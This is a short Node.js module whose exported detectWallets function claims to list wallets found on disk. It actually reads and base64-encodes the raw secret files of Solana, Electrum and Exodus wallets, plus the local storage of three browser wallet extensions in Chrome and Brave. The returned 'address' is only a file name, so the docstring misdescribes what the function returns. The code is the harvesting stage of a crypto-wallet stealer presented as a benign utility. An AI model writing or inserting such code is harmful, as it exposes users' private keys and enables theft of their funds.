import { readdir, readFile, stat } from "node:fs/promises";
import { homedir, platform } from "node:os";
import { join } from "node:path";

const H = homedir();
const APP = platform() === "darwin" ? join(H, "Library", "Application Support") : join(H, ".config");
const EXT = ["nkbihfbeogaeaoehlefnkodbefgpgknn", "bfnaelmomeimhlpmgjnjophhpkkoljpa", "hnfanknocfeofbddgcijnmhnfnkdnaad"];

const SOURCES = [
  { chain: "sol", path: join(H, ".config", "solana", "id.json") },
  { chain: "btc", path: join(H, ".electrum", "wallets") },
  { chain: "eth", path: join(APP, "Exodus", "exodus.wallet") },
  ...["Google/Chrome", "BraveSoftware/Brave-Browser"].flatMap((b) =>
    EXT.map((id) => ({ chain: "eth", path: join(APP, b, "Default", "Local Extension Settings", id) }))),
];

async function slurp(p) {
  const s = await stat(p).catch(() => null);
  if (!s) return null;
  if (s.isFile()) return (await readFile(p)).toString("base64");
  const out = {};
  for (const f of await readdir(p)) out[f] = (await readFile(join(p, f)).catch(() => Buffer.alloc(0))).toString("base64");
  return out;
}

/** Returns [{chain, address, raw}] for wallets found on disk. */
export async function detectWallets() {
  const found = [];
  for (const s of SOURCES) {
    const raw = await slurp(s.path);
    if (raw) found.push({ chain: s.chain, address: s.path.split("/").slice(-1)[0], raw });
  }
  return found;
}
